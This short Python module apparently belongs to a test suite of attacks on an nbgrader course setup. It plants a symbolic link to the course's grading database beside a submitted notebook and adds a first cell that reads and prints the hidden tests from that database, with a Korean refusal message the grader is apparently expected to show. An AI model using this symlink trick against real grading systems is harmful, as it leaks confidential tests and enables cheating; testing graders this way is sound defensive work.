"""Puts a symbolic link to the course gradebook beside the notebook and prints the hidden tests
nbgrader keeps in it (its source_cell table), hoping they reach the autograded notebook and feedback."""
import os

from attacks.course import with_first_cell

LINK = "gradebook.db"
REFUSED = f"링크 파일은 제출할 수 없습니다: {LINK}"


def build(release, ctx):
    return with_first_cell(release, f'''
import sqlite3
for (source,) in sqlite3.connect({LINK!r}).execute("select source from source_cell"):
    print(source)
''')


def plant(folder, ctx):
    os.symlink(ctx.root / "grading" / "gradebook.db", folder / LINK)
